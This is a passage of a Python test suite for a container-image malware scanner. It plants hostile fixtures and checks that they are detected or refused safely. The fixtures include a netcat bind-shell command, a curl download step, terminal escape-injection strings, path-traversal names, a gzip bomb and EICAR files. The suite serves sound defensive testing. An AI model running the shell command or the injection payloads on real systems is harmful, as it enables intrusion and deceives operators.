    r = scan(root)
    eq(sorted((f["path"], f["severity"], f["evidence"]["format"]) for f in r.json["findings"]),
       [("/usr/lib/sysimage/rpm/Packages", "info", "bdb"), ("/var/lib/rpm/Packages.db", "info", "ndb")],
       "rpm databases named (an rpmdb.sqlite is read; one that is not a database says nothing)")
    eq(r.json["verdict"], "clean", "verdict")


RPM_SPEC = """%global debug_package %{nil}
%global __os_install_post %{nil}
Name: hello-standin
Version: 1.0
Release: 1
Summary: a test package
License: Apache-2.0
%description
A test package.
%install
mkdir -p %{buildroot}/usr/bin %{buildroot}/usr/share/hello
install -m 0755 %{_sourcedir}/hello %{buildroot}/usr/bin/hello
install -m 0644 %{_sourcedir}/check.nse %{buildroot}/usr/share/hello/check.nse
%files
/usr/bin/hello
/usr/share/hello/check.nse
"""


@case
def rpm_database_read_through_sqlite():
    """A real rpmdb.sqlite (rpmbuild and rpm --root, Debian's rpm 4.18):
    its headers give owners, versions and SHA-256s; a replaced program is
    SW-PKG-MODIFIED, an unmodified data file's text pattern is lowered."""
    import hashlib
    if not shutil.which("rpmbuild"):
        raise AssertionError("rpmbuild missing (Debian package rpm)")
    top = os.path.join(WORK, "rpm")
    src = os.path.join(top, "src")
    os.makedirs(src, exist_ok=True)
    hello = b"\x7fELF\x02\x01\x01" + bytes(57) + b"hello stand-in, original\n" + bytes(100)
    nse = b'local cmd = "nc -l -p 4444 -e /bin/sh"\n'
    with open(os.path.join(src, "hello"), "wb") as f:
        f.write(hello)
    with open(os.path.join(src, "check.nse"), "wb") as f:
        f.write(nse)
    with open(os.path.join(top, "hello.spec"), "w") as f:
        f.write(RPM_SPEC)
    p = subprocess.run(["rpmbuild", "-bb", "--define", "_topdir " + os.path.join(top, "top"), "--define",
                        "_sourcedir " + src, "--define", "_build_id_links none", os.path.join(top, "hello.spec")],
                       capture_output=True, text=True)
    eq(p.returncode, 0, "rpmbuild: " + p.stderr[-600:])
    import glob
    pkg = glob.glob(os.path.join(top, "top", "RPMS", "*", "hello-standin-1.0-1.*.rpm"))[0]
    root = os.path.join(top, "root")
    p = subprocess.run(["rpm", "--root", root, "--dbpath", "/var/lib/rpm", "-i", "--nodeps", "--noscripts",
                        "--nosignature", "--ignorearch", pkg], capture_output=True, text=True)
    eq(p.returncode, 0, "rpm -i: " + p.stderr[-600:])
    with open(os.path.join(root, "var/lib/rpm/rpmdb.sqlite"), "rb") as f:
        db = f.read()
    for name, prog, want in (("rpm-ok", hello, []), ("rpm-evil", hello.replace(b"original", b"replaced"),
                                                        ["/usr/bin/hello"])):
        img = d(name)
        oci_image(img, [Layer([E("var/lib/rpm/rpmdb.sqlite", db), E("usr/bin/hello", prog, mode=0o755),
                               E("usr/share/hello/check.nse", nse)])])
        r = scan(img)
        mods = [f for f in r.json["findings"] if f["id"] == "SW-PKG-MODIFIED"]
        eq([f["path"] for f in mods], want, name)
        for f in mods:
            eq((f["evidence"]["sha256"], f["evidence"]["recorded_sha256"], f["evidence"]["package"]["name"],
                f["evidence"]["package"]["version"]),
               (hashlib.sha256(prog).hexdigest(), hashlib.sha256(hello).hexdigest(), "hello-standin", "1.0-1"),
               "evidence")
        f = one_finding(r, "SW-REVSHELL-NETCAT", "/usr/share/hello/check.nse", 0)
        eq((f["severity"], f["evidence"]["package"]["manager"], f["evidence"]["package"].get("unmodified")),
           ("low", "rpm", True), "the data file's text pattern: " + name)
        eq([x for x in r.json["findings"] if x["id"] == "SW-PKGDB-NOT-READ"], [], "the sqlite database was read")
    # hostile headers: counts and offsets past the blob, strings without
    # their NUL, a directory index out of range: read as far as they are
    # sound, never past them
    import random
    import sqlite3
    bad = os.path.join(top, "bad.sqlite")
    c = sqlite3.connect(bad)
    c.execute("CREATE TABLE Packages (hnum INTEGER PRIMARY KEY AUTOINCREMENT, blob BLOB NOT NULL)")
    rnd = random.Random(7)

    def entry(tag, typ, off, cnt):
        return struct.pack(">IIII", tag, typ, off, cnt)
    data = b"evil\0" + b"/usr/bin/\0" + b"hello\0" + b"ab" * 40
    blobs = [struct.pack(">II", 0xFFFFFFFF, 0xFFFFFFFF), struct.pack(">II", 3, 1 << 30) + bytes(48),
             struct.pack(">II", 4, len(data)) + entry(1000, 6, 0, 1) + entry(1118, 8, 5, 1000) +
             entry(1117, 8, 15, 1) + entry(1116, 4, 0, 1) + data,
             struct.pack(">II", 2, 4) + entry(1000, 6, 0, 1) + entry(1117, 8, 0x7FFFFFFF, 5) + b"abcd"]
    blobs += [bytes(rnd.getrandbits(8) for _ in range(rnd.randrange(1, 300))) for _ in range(50)]
    c.executemany("INSERT INTO Packages(blob) VALUES (?)", [(b,) for b in blobs])
    c.commit()
    c.close()
    with open(bad, "rb") as f:
        baddb = f.read()
    img = d("rpm-hostile")
    oci_image(img, [Layer([E("var/lib/rpm/rpmdb.sqlite", baddb), E("usr/bin/hello", hello, mode=0o755),
                           E("usr/share/hello/check.nse", nse)])])
    r = scan(img)
    eq(r.rc, 1, "the scan of a hostile rpm database completes: " + r.err)
    f = one_finding(r, "SW-REVSHELL-NETCAT", "/usr/share/hello/check.nse", 0)
    eq(f["severity"], "critical", "nothing a hostile database says lowers a finding it does not vouch for")


@case
def unowned_system_program_raises_its_heuristic():
    """A program with suspicious traits in /usr/bin that no installed
    package lists, in an image whose dpkg database lists its files, was
    put there by hand: its heuristic finding is raised one step (and says
    why); the same file listed by a package, or in an image without a
    database, is not."""
    elf = b"\x7fELF\x02\x01\x01" + bytes(57) + b"a program" + bytes(200)
    status = b"Package: coreutils\nStatus: install ok installed\nArchitecture: amd64\nVersion: 9.1-1\n\n"
    listed = b"".join(b"/usr/bin/tool%d\n" % i for i in range(60))

    def sev(name, files, lst, other=None):
        root = d(name)
        ents = [E("usr/", kind="dir"), E("usr/bin/", kind="dir"), E("usr/bin/kworker", elf, mode=0o755)] + files
        if lst is not None:
            ents += [E("var/", kind="dir"), E("var/lib/dpkg/status", status),
                     E("var/lib/dpkg/info/coreutils.list", lst)]
        if other is not None:
            ents.append(E("var/lib/dpkg/info/bigpkg.list", other))
        oci_image(root, [Layer(ents)])
        f = [x for x in scan(root).json["findings"] if x["path"] == "/usr/bin/kworker" and x["detector"] == "heuristic"]
        eq(len(f), 1, "one heuristic finding on /usr/bin/kworker in %s: %r" % (name, f))
        return f[0]
    alone = sev("unowned-nodb", [], None)
    unowned = sev("unowned-db", [], listed)
    owned = sev("owned-db", [], listed + b"/usr/bin/kworker\n")
    order = ["info", "low", "medium", "high", "critical"]
    eq(order.index(unowned["severity"]), order.index(alone["severity"]) + 1,
       "raised one step: %s -> %s" % (alone["severity"], unowned["severity"]))
    ok("no installed package lists" in unowned["evidence"].get("raised_unowned", ""), unowned["evidence"])
    eq((owned["severity"], "raised_unowned" in owned["evidence"]), (alone["severity"], False), "a listed program")
    # a package list past what is kept (over 8 MiB) may list the program:
    # its owners are unknown, so nothing is raised, the 60 read ones aside
    big = b"/usr/bin/kworker\n" + b"".join(b"/usr/share/doc/pad/%07d\n" % i for i in range(330000))
    ok(len(big) > 8 << 20, "the list is past the kept bound: %d bytes" % len(big))
    unread = sev("unowned-unread", [], listed, big)
    eq((unread["severity"], "raised_unowned" in unread["evidence"]), (alone["severity"], False),
       "a database not read whole")


@case
def package_database_of_many_packages_stays_linear():
    """A dpkg status of 140,000 tiny paragraphs (8 MB, just under what is
    kept): reading it must cost its size, not its square (a scan of it took
    54 s when each package was looked up by a scan of the others). The
    bound is loose: it catches the square, not a slow machine."""
    st = b"".join(b"Package: p%d\nStatus: install ok installed\nVersion: 1\n\n" % i for i in range(140000))
    ok(len(st) < 8 << 20, "under the kept bound: %d" % len(st))
    root = d("pkg-many")
    oci_image(root, [Layer([E("var/", kind="dir"), E("var/lib/dpkg/status", st), E("opt/eicar", EICAR)])])
    try:
        r = scan("--no-cache", root, timeout=30)
    except subprocess.TimeoutExpired:
        raise AssertionError("the scan of a database of 140,000 packages took over 30 s")
    eq(one_finding(r, "SW-IOC-SHA256", "/opt/eicar", 0)["evidence"]["package"], {"manager": "dpkg", "name": None},
       "the database was read")


@case
def wallet_shape_without_mining_context_is_quiet():
    root = d("cfg2")
    oci_image(root, [base_layer(created_by="RUN apt-get install -y curl && curl -o /tmp/x https://example.invalid/x")],
              cfg_extra={"config": {"Cmd": ["python3", "app.py"], "Labels": {"checksum": FAKE_WALLET},
                                    "Env": ["TOKEN=" + "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo="]}})
    r = scan(root)
    eq(r.rc, 0, r.err)
    eq([f["id"] for f in r.json["findings"]], [], "no findings")


# ---------------------------------------------------------------- hostile input

@case
def dotdot_path_is_reported_not_applied():
    root = d("dotdot")
    oci_image(root, [Layer([E("../../../etc/evil", EICAR), E("/abs/eicar", EICAR)])])
    r = scan(root)
    eq(r.rc, 0, r.err)
    inc = r.json["incomplete"]
    ok(any("escapes the root" in i["reason"] for i in inc), "incomplete lists the escape: %s" % inc)
    ok(any(f["id"] == "SW-INCOMPLETE" and f["severity"] == "medium" for f in r.json["findings"]),
       "incomplete raises a medium finding")
    one_finding(r, "SW-IOC-SHA256", "/abs/eicar", 0)
    ok([f for f in r.findings("SW-IOC-SHA256") if "etc/evil" in f["path"] and not f["in_final_fs"]],
       "content of the escaping entry is still scanned")


@case
def symlink_escape_then_write_through_it():
    root = d("symesc")
    oci_image(root, [Layer([E("link", kind="symlink", link="../../../../etc"),
                            E("link/cron.d", kind="dir"), E("link/cron.d/evil", EICAR)])])
    r = scan(root)
    eq(r.rc, 0, r.err)
    ok(any("symlink" in i["reason"] for i in r.json["incomplete"]), "incomplete: %s" % r.json["incomplete"])
    ok(r.findings("SW-IOC-SHA256"), "content written through the link is scanned")


# ---------------------------------------------------------------- terminal injection
# Every command that shows image-controlled text to a person (report tables,
# error lines, progress) shows it through the one escaper (stowaway/term.h):
# no byte a terminal obeys reaches stdout or stderr, and the escaped form is
# there, so the text was shown, not dropped. JSON keeps the exact bytes.

OSC = "\x1b]0;pwned\x07"                   # retitles the window
CLEAR = "\x1b[2J"                          # clears the screen
GREEN = "\x1b[32mverdict: clean\x1b[0m"    # paints a fake verdict
CSI8 = "\u009b"                            # C1 CSI encoded in UTF-8 (c2 9b)
RLO = "\u202e"                             # right-to-left override
RAW = "\udc9b"                             # the raw byte 0x9b, not UTF-8 (surrogateescape)
HOSTILE = OSC + CLEAR + CSI8 + RLO
SHOWN = {"osc": r"\x1b]0;pwned\x07", "clear": r"\x1b[2J", "green": r"\x1b[32mverdict: clean\x1b[0m",
         "csi8": r"\u009b", "rlo": r"\u202e", "raw": r"\x9b"}
BIDI = {0x061c, 0x200e, 0x200f, 0x2028, 0x2029} | set(range(0x202a, 0x202f)) | set(range(0x2066, 0x206a))


def inert(data, what):
    """The text of data (bytes), failing on anything a terminal would obey:
    C0 but tab and newline, DEL, C1 as UTF-8, bytes outside valid UTF-8 (raw
    C1 among them), bidirectional controls and Unicode line breaks."""
    text = data.decode("utf-8", "surrogateescape")
    bad = sorted({"U+%04X" % ord(ch) if ord(ch) < 0xdc80 or ord(ch) > 0xdcff else "byte 0x%02x" % (ord(ch) - 0xdc00)
                  for ch in text if (ord(ch) < 0x20 and ch not in "\t\n") or ord(ch) == 0x7f or
                  0x80 <= ord(ch) <= 0x9f or 0xdc80 <= ord(ch) <= 0xdcff or ord(ch) in BIDI})
    ok(not bad, "%s: reaches the terminal: %s in %r" % (what, ", ".join(bad), text[:2000]))
    return text


def shows(text, what, *keys):
    for k in keys:
        ok(SHOWN[k] in text, "%s: %s (escaped) not shown in %r" % (what, SHOWN[k], text[:2000]))


def human(*args, stdin=None, timeout=300):
    """Run a command whose output is for people: (rc, stdout, stderr) as
    text, both checked inert."""
    env = dict(os.environ, XDG_CACHE_HOME=os.path.join(WORK, "cache"))
    p = subprocess.run([BIN] + list(args), input=stdin, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                       env=env, timeout=timeout)
    what = " ".join(a for a in args[:2])
    return p.returncode, inert(p.stdout, what + ": stdout"), inert(p.stderr, what + ": stderr")


def verdict_lines(out):
    """Lines that start as the table's verdict does (the hostile text says
    "verdict: clean" too, escaped, inside other lines)."""
    return [l for l in out.split("\n") if l.startswith("verdict: ")]


START = "/opt/" + CLEAR + CSI8 + RLO + "/run.sh"   # the Entrypoint: a script that starts the payload


def hostile_config():
    return {"config": {"Entrypoint": [START], "Cmd": [CSI8 + "2J", RLO + "txt.exe", OSC + GREEN],
                       "User": CLEAR + "root" + CSI8, "Env": ["PATH=/bin", "PS1=" + GREEN + RLO],
                       "Labels": {OSC: RLO + CSI8}, "WorkingDir": "/" + CLEAR}}


def hostile_scan_image():
    """Findings, build steps and incomplete entries whose paths carry every
    kind of control: UTF-8 ones through PAX names, raw bytes through GNU names;
    the Entrypoint a script at such a path, starting the payload."""
    root = d("term-scan")
    named = Layer([E("opt", kind="dir"), E("opt/" + HOSTILE + "/eicar.com", EICAR),
                   E(START[1:], b"#!/bin/sh\nexec /opt/eicar\n", mode=0o755), E("opt/eicar", EICAR)],
                  created_by="COPY " + OSC + CLEAR + CSI8 + RLO + " /opt/")
    raw = Layer([E("srv", kind="dir"), E("srv/" + RAW + "2J" + CLEAR + "\t\r.eicar", EICAR),
                 E("../" + CLEAR + RAW + RLO + "up", EICAR)],
                fmt=tarfile.GNU_FORMAT, created_by="RUN " + GREEN)
    oci_image(root, [base_layer(created_by="ADD " + RLO + "rootfs.tar /"), named, raw], cfg_extra=hostile_config())
    return root


@case
def hostile_text_escaped_in_scan_table():
    root = hostile_scan_image()
    rc, out, err = human("scan", "--quiet", "--no-cache", "--format", "table", "oci:" + root)
    eq(rc, 0, "exit code (stderr %r)" % err)
    shows(out, "finding path", "osc", "clear", "csi8", "rlo")
    shows(out, "raw byte in a path", "raw")
    shows(out, "created_by", "green")
    ok(r"\t\r.eicar" in out, "tab and CR shown escaped: %r" % out)
    ok("/../" + SHOWN["clear"] + SHOWN["raw"] + SHOWN["rlo"] + "up" in out, "incomplete path: %r" % out)
    ok("/opt/" + SHOWN["clear"] + SHOWN["csi8"] + SHOWN["rlo"] + "/run.sh" in out and "SW-LAUNCHER" in out,
       "the Entrypoint script that starts the payload: %r" % out)
    v = verdict_lines(out)
    ok(len(v) == 1 and v[0].startswith("verdict: suspicious ("), "one verdict line, ours: %s" % v)
    # JSON is for programs: the exact names, escaped only by the JSON writer
    r = scan("--no-cache", "oci:" + root)
    eq(r.rc, 0, r.err)
    paths = {f["path"] for f in r.findings("SW-IOC-SHA256")}
    ok("/opt/" + HOSTILE + "/eicar.com" in paths, "exact path in JSON: %s" % paths)
    eq([f["path"] for f in r.findings("SW-LAUNCHER")], [START], "exact Entrypoint script in JSON")
    ok(any(i["path"] == "/../" + CLEAR + "\ufffd" + RLO + "up" for i in r.json["incomplete"]),
       "the unplaced name as the entry has it (the raw byte as U+FFFD): %s" % r.json["incomplete"])
    # SARIF messages are text for people too (the structure stays JSON)
    r = scan("--no-cache", "oci:" + root, fmt="sarif")
    eq(r.rc, 0, r.err)
    msgs = [x["message"]["text"] for x in r.json["runs"][0]["results"]]
    for m in msgs:
        inert(m.encode(), "SARIF message")
    ok(any(SHOWN["osc"] in m for m in msgs), "SARIF message shows the path escaped: %s" % msgs)


@case
def hostile_text_escaped_on_a_terminal():
    if not shutil.which("script"):
        raise AssertionError("script(1) from util-linux is required")
    root = hostile_scan_image()
    p = subprocess.run(["script", "-qfec", "%s scan --no-cache oci:%s" % (BIN, root), "/dev/null"],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120,
                       env=dict(os.environ, XDG_CACHE_HOME=os.path.join(WORK, "cache")))
    out = p.stdout
    ok(b"\033[" in out and b"SW-IOC-SHA256" in out, "a coloured table on a terminal: %r" % out[:300])
    # our own colours and the progress line's erase are the only sequences
    for seq in (b"\r\033[K", b"\033[1;31m", b"\033[31m", b"\033[33m", b"\033[36m", b"\033[2m", b"\033[1m",
                b"\033[0m", b"\r\n"):
        out = out.replace(seq, b"\n" if seq == b"\r\n" else b"")
    text = inert(out, "scan on a terminal (table and progress)")
    shows(text, "finding path", "osc", "clear", "csi8", "rlo", "raw")


@case
def hostile_text_escaped_in_error_lines():
    # tags in index.json, listed by the error for a tag that is not there
    tagged = d("term-tags")
    oci_image(tagged, [base_layer()], tag=HOSTILE)
    for args in (["scan", "--quiet", "--format", "table"], ["unpack"]):
        extra = [os.path.join(WORK, "term-unpack-none")] if args == ["unpack"] else []
        rc, out, err = human(*(args + ["oci:%s:nosuch" % tagged] + extra))
        eq(rc, 2, "%s: exit code" % args[0])
        ok(err.startswith("stowaway: ") and err.count("\n") == 1, "%s: one error line: %r" % (args[0], err))
        shows(err, args[0] + " error", "osc", "clear", "csi8", "rlo")
    # a directory name too long for the file system, refused while unpacking
    longname = d("term-long")
    oci_image(longname, [Layer([E(OSC + RAW + "A" * 300, kind="dir")], fmt=tarfile.GNU_FORMAT)])
    rc, out, err = human("unpack", "oci:" + longname, os.path.join(WORK, "term-unpack-long"))
    eq(rc, 2, "unpack: exit code (%r)" % err)
    shows(err, "unpack error", "osc", "raw")
    # the hostile image unpacks: its summary line is numbers only
    dest = os.path.join(WORK, "term-unpack")
    shutil.rmtree(dest, ignore_errors=True)
    rc, out, err = human("unpack", "oci:" + hostile_scan_image(), dest)
    eq(rc, 0, "unpack: exit code (%r)" % err)
    # references: each is quoted by its error
    rc, out, err = human("name", "--format", "table", "nginx" + OSC, "ng" + CSI8 + "nix" + RLO, "ngnix")
    eq(rc, 2, "name: exit code")
    eq(err.count("\n"), 2, "name: one line per bad reference: %r" % err)
    shows(err, "name error", "osc", "csi8", "rlo")
    ok("typosquat" in out, "name: the valid reference is judged: %r" % out)
    rc, out, err = human("name", "--format", "table", "-", stdin=("alpine" + CLEAR + "\n" + "x" + RLO + "\n").encode())
    eq(rc, 2, "name -: exit code")
    shows(err, "name - error", "clear", "rlo")


@case
def hostile_text_escaped_by_check():
    # image names found in a Dockerfile, and a scan the policy asks for that
    # fails with an error quoting the image's tags
    mdir = d("term-manifests")
    with open(os.path.join(mdir, "Dockerfile"), "w", encoding="utf-8", errors="surrogateescape") as f:
        f.write("FROM ngnix" + OSC + "\nFROM alpine" + CSI8 + RLO + "\nFROM bu" + CLEAR + "sybox AS b\n")
    rc, out, err = human("check", "--format", "table", "--manifests", mdir)
    eq(rc, 1, "check --manifests: exit code (%r)" % err)
    shows(out, "check table", "osc", "csi8", "rlo", "clear")
    tagged = d("term-tags2")
    oci_image(tagged, [base_layer()], tag=HOSTILE)
    pol = os.path.join(WORK, "term-scan.yaml")
    with open(pol, "w") as f:
        f.write("version: 1\nscan: {max_severity: low}\n")
    rc, out, err = human("check", "--format", "table", "--policy", pol, "oci:%s:nosuch" % tagged)
    eq(rc, 1, "check --policy: exit code (%r)" % err)
    ok("requires a scan, which failed" in out, "check: the scan's failure is the reason: %r" % out)
    shows(out, "check reason", "osc", "clear", "csi8", "rlo")


@case
def hostile_file_names_in_rules_test():
    rdir = d("term-rules")
    name = os.path.join(rdir, "eicar-" + OSC + RAW + RLO + "\n.com")
    with open(name, "wb") as f:
        f.write(EICAR)
    rc, out, err = human("rules", "test", name)
    eq(rc, 1, "rules test: a match (%r)" % err)
    ok("SW-TEST-EICAR" in out, "rules test: the match: %r" % out)
    shows(out, "rules test path", "osc", "raw", "rlo")
    ok(r"\n.com" in out and out.count("\n") == 1, "one line per match: %r" % out)
    rc, out, err = human("rules", "test", os.path.join(rdir, "gone" + CLEAR + CSI8))
    eq(rc, 2, "rules test: a missing file")
    shows(err, "rules test error", "clear", "csi8")


@case
def hostile_entrypoint_and_user_in_detonate():
    exe = os.path.join(WORK, "behave")
    if not os.path.exists(exe):
        subprocess.run(["gcc", "-static", "-O2", "-o", exe, os.path.join(HERE, "..", "fixtures", "standins", "behave.c")],
                       check=True, stderr=subprocess.DEVNULL)
    data = open(exe, "rb").read()
    prog = "bin/" + OSC + CLEAR + CSI8 + RLO + "x"

    def image(name, user=None):
        root = d(name)
        ents = [E("bin/", kind="dir"), E(prog, data, mode=0o755), E("bin/sh", data, mode=0o755),
                E("etc/", kind="dir"), E("etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n"),
                E("tmp/", kind="dir", mode=0o1777), E("root/", kind="dir", mode=0o700)]
        cfg = {"Entrypoint": ["/" + prog], "Cmd": ["persist", GREEN + RLO]}
        if user:
            cfg["User"] = user
        oci_image(root, [Layer(ents, created_by="COPY " + OSC + " /bin/")], cfg_extra={"config": cfg})
        return "oci:" + root

    rc, out, err = human("detonate", "--format", "table", "--timeout", "20", image("term-det-user", CLEAR + "evil" + CSI8 + RLO))
    eq(rc, 2, "an unknown User is an error")
    ok("no such user" in err and err.count("\n") == 1, "one error line: %r" % err)
    shows(err, "detonate User error", "clear", "csi8", "rlo")
    rc, out, err = human("detonate", "--format", "table", "--timeout", "20", image("term-det"))
    if rc == 2 and "Sandbox" not in out:
        return "sandbox unavailable here (%s): the table was not checked" % err.strip()[:120]
    eq(rc, 1, "detonate: exit code (%r)" % err)
    ok("ran /" + prog.split("/")[0] + "/" + SHOWN["osc"] + SHOWN["clear"] + SHOWN["csi8"] + SHOWN["rlo"] + "x" in out,
       "the Sandbox line shows the Entrypoint escaped: %r" % out)
    shows(out, "detonate timeline", "green")
    v = verdict_lines(out)
    ok(len(v) == 1 and v[0].startswith("verdict: malicious ("), "one verdict line, ours: %s" % v)


def corrupt_image(name, mutate):
    root = d(name)
    layers = [base_layer([E("x", EICAR)])]
    oci_image(root, layers)
    mutate(root, layers)
    return root


def blob_path(root, digest):
    return os.path.join(root, "blobs", "sha256", digest[7:])


@case
def truncated_gzip_is_an_error():
    def cut(root, layers):
        p = blob_path(root, sha(layers[0].blob))
        data = layers[0].blob[:len(layers[0].blob) // 2]
        os.remove(p)
        # keep the manifest honest about the truncated bytes
        L = Layer(raw=layers[0].raw, blob=data)
        shutil.rmtree(root)
        os.makedirs(root)
        oci_image(root, [L])
    r = scan(corrupt_image("trunc", cut))
    error_run(r, "truncated")
    ok("layer 0" in r.err, "names the layer")


@case
def wrong_blob_digest_is_an_error():
    def flip(root, layers):
        p = blob_path(root, sha(layers[0].blob))
        b = bytearray(open(p, "rb").read())
        b[-5] ^= 1  # inside the gzip trailer area: same size, different hash
        open(p, "wb").write(bytes(b))
    r = scan(corrupt_image("wrongdig", flip))
    # the flipped byte sits in the gzip trailer: the CRC or the digest gives
    # it away, and either way the error names the layer and its blob
    error_run(r, "layer 0 (sha256:")
    ok("CRC mismatch" in r.err or "content hashes to" in r.err, "says what is wrong: " + r.err)


@case
def wrong_digest_plain_layer_names_blob():
    root = d("wrongdig2")
    L = Layer([E("x", EICAR)], comp="none")
    oci_image(root, [L])
    p = blob_path(root, sha(L.blob))
    b = bytearray(open(p, "rb").read())
    b[-1] ^= 1  # trailing zero block: tar still parses, digest differs
    open(p, "wb").write(bytes(b))
    error_run(scan(root), "blob %s: content hashes to" % sha(L.blob))


@case
def wrong_diff_id_is_an_error():
    root = d("wrongdiff")
    L = Layer([E("x", EICAR)])
    cfg = config_for([L])
    cfg["rootfs"]["diff_ids"] = [sha(b"something else")]
    write_oci(root, [([L], cfg, None)])
    error_run(scan(root), "diff_id is " + sha(b"something else"))


@case
def declared_size_larger_than_data():
    root = d("size")
    L = Layer([E("x", EICAR)])
    oci_image(root, [L])
    # rewrite the manifest with a bigger size for the layer
    idx = json.load(open(os.path.join(root, "index.json")))
    md = idx["manifests"][0]["digest"]
    man = json.load(open(blob_path(root, md)))
    man["layers"][0]["size"] += 1000
    b = Blobs(root)
    mb = jdump(man)
    idx["manifests"][0].update({"digest": b.put(mb), "size": len(mb)})
    open(os.path.join(root, "index.json"), "wb").write(jdump(idx))
    error_run(scan(root), "descriptor says")


@case
def wrong_config_digest_and_bad_tar_checksum():
    root = corrupt_image("cfgdig", lambda root, layers: None)
    idx = json.load(open(os.path.join(root, "index.json")))
    man = json.load(open(blob_path(root, idx["manifests"][0]["digest"])))
    with open(blob_path(root, man["config"]["digest"]), "r+b") as f:
        f.seek(2)
        f.write(b"X")
    error_run(scan(root), "blob %s: content hashes to" % man["config"]["digest"])
    root = d("badsum")
    raw = bytearray(Layer([E("x", EICAR)], comp="none").raw)
    raw[0] ^= 0x20  # name byte: checksum no longer adds up
    oci_image(root, [Layer(raw=bytes(raw), comp="gzip")])
    error_run(scan(root), "checksum")


@case
def gzip_bomb_is_cut_off():
    root = d("bomb")
    # one tar entry of 2 GiB zeros: ~2 MB of gzip
    size = 2 << 30
    hdr = tarfile.TarInfo("zeros")
    hdr.size = size
    head = hdr.tobuf(tarfile.PAX_FORMAT)
    co = zlib.compressobj(6, zlib.DEFLATED, 31)
    parts = [co.compress(head)]
    chunk = bytes(1 << 20)
    crc, n = zlib.crc32(head), len(head)
    for _ in range(size >> 20):
        parts.append(co.compress(chunk))
    parts.append(co.compress(bytes(1024)))
    parts.append(co.flush())
    blob = b"".join(parts)
    L = Layer(raw=b"", blob=blob)
    write_oci(root, [([L], config_for([L]), None)])
    r = scan(root)
    eq(r.rc, 0, r.err)
    ok(any("compression ratio" in i["reason"] for i in r.json["incomplete"]),
       "incomplete names the ratio: %s" % r.json["incomplete"])
    rss_ok(r)


@case
def timeout_stops_a_long_scan():
    # 20 GiB of zeros as concatenated gzip members of 1 GiB each (~1 MB each):
    # a scan with the ratio and size limits lifted takes well over 10 s, so
    # only --timeout can stop it after 1 s.
    root = d("slow")
    L = zeros_layer(20)
    write_oci(root, [([L], config_for([L]), None)])
    t0 = time.time()
    r = scan("--timeout", "1", "--max-ratio", "1000000", "--max-image-size", "1T", root)
    took = time.time() - t0
    eq(r.rc, 0, r.err)
    ok(any("timeout" in i["reason"] for i in r.json["incomplete"]), "incomplete: %s" % r.json["incomplete"])
    ok(took < 5, "stopped after %.1f s" % took)


def fast_tar(n):
    """n empty files, written block by block (tarfile is too slow for 1e6)."""
    out = bytearray()
    base = bytearray(512)
    base[100:108] = b"0000644\0"
    base[108:116] = b"0000000\0"
    base[116:124] = b"0000000\0"
    base[124:136] = b"00000000000\0"
    base[136:148] = b"14540000000\0"
    base[156:157] = b"0"
    base[257:265] = b"ustar\x0000"
    base_sum = sum(base) + 8 * 32
    for i in range(n):
        name = b"f%07d" % i
        blk = bytearray(base)
        blk[0:len(name)] = name
        s = base_sum + sum(name)
        blk[148:156] = b"%06o\0 " % s
        out += blk
    out += bytes(1024)
    return bytes(out)


@case
def million_entries_bounded():
    root = d("million")
    L = Layer(raw=fast_tar(1000000), comp="gzip")
    oci_image(root, [L])
    r = scan(root)
    eq(r.rc, 0, r.err)
    eq(r.json["stats"]["files"], 1000000, "files")
    rss_ok(r)
    r = scan("--max-entries", "1000", root)
    eq(r.rc, 0, r.err)
    ok(any("max-entries" in i["reason"] for i in r.json["incomplete"]), "incomplete: max-entries")


@case
def huge_manifest_is_refused():
    root = d("hugeman")
    L = Layer([E("x", EICAR)])
    b = Blobs(root)
    man = manifest_for(b, [L], jdump(config_for([L])))
    body = jdump(man)[:-1] + b"," + b" " * (100 << 20) + b'"x":1}'
    idx = {"schemaVersion": 2, "manifests": [{"mediaType": MT_MANIFEST, "digest": b.put(body),
                                               "size": len(body)}]}
    open(os.path.join(root, "oci-layout"), "w").write('{"imageLayoutVersion":"1.0.0"}')
    open(os.path.join(root, "index.json"), "wb").write(jdump(idx))
    r = scan(root)
    error_run(r, "limit")
    rss_ok(r)


@case
def deeply_nested_json_is_refused():
    root = d("deep")
    L = Layer([E("x", EICAR)])
    cfg = jdump(config_for([L]))[:-1] + b',"deep":' + b"[" * 100000 + b"]" * 100000 + b"}"
    write_oci(root, [([L], cfg, None)])
    error_run(scan(root), "nesting deeper than")


@case
def hostile_archives_and_layouts():
    out = os.path.join(WORK, "evil-docker.tar")
    with tarfile.open(out, "w") as t:
        for name, data in (("../evil", b"x"), ("manifest.json", b"[]")):
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            t.addfile(ti, __import__("io").BytesIO(data))
    error_run(scan("docker-archive:" + out), "escapes the archive root")
    root = d("symblob")
    L = Layer([E("x", EICAR)])
    oci_image(root, [L])
    p = blob_path(root, sha(L.blob))
    os.remove(p)
    os.symlink("/etc/passwd", p)
    error_run(scan(root), "symlink")
    error_run(scan(os.path.join(WORK, "does-not-exist")), "does-not-exist")
    error_run(scan("docker.io/library/alpine:3.20"), "registry")


@case
def image_names_never_become_paths_outside():
    """Every name an image gives that becomes a path: descriptor digests
    shaped like traversals (of the right length), a docker-archive's layer
    paths, nested members. Each is refused or reported; nothing outside is
    read (a secret beside the layout stays out of every report)."""
    import io as _io
    base = d("names")
    secret = os.path.join(base, "secret")
    with open(secret, "wb") as f:
        f.write(EICAR)
    trav = "sha256:" + ("../" * 21 + "secret")[:64]
    root = os.path.join(base, "img")
    L = Layer([E("x", b"x")])
    oci_image(root, [L])
    idx_p = os.path.join(root, "index.json")
    idx = json.load(open(idx_p))
    man_p = blob_path(root, idx["manifests"][0]["digest"])
    man = json.load(open(man_p))
    for what, edit in (("layer", lambda m, i: m["layers"][0].update(digest=trav)),
                       ("config", lambda m, i: m["config"].update(digest=trav)),
                       ("manifest", lambda m, i: i["manifests"][0].update(digest=trav))):
        bad = os.path.join(base, "bad-" + what)
        shutil.rmtree(bad, ignore_errors=True)
        shutil.copytree(root, bad)
        m2, i2 = json.loads(json.dumps(man)), json.loads(json.dumps(idx))
        edit(m2, i2)
        mb = jdump(m2)
        with open(blob_path(bad, sha(mb)), "wb") as f:
            f.write(mb)
        if what != "manifest":
            i2["manifests"][0].update(digest=sha(mb), size=len(mb))
        with open(os.path.join(bad, "index.json"), "wb") as f:
            f.write(jdump(i2))
        r = scan(bad)
        eq(r.rc, 2, "%s digest %s: %s" % (what, trav, r.err))
